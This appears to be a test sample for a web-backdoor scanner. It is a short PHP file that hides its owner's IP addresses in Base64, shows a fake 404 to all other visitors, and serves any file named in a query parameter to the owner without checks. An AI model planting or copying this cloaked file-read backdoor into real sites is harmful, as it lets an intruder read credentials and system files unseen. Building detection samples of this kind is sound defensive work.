<?php
// Inert test sample (webhunt): the owner's addresses kept Base64-encoded; anyone else is told the
// page does not exist (a fake 404); the owner gets any file the query names, sent as it is.
$keep = explode(',', base64_decode('MjAzLjAuMTEzLjcsMTk4LjUxLjEwMC4yMA=='));
if (!in_array($_SERVER['REMOTE_ADDR'], $keep)) {
    header('HTTP/1.0 404 Not Found');
    die();
}
$p = $_GET['p'];
header('Content-Type: application/octet-stream');
readfile($p);
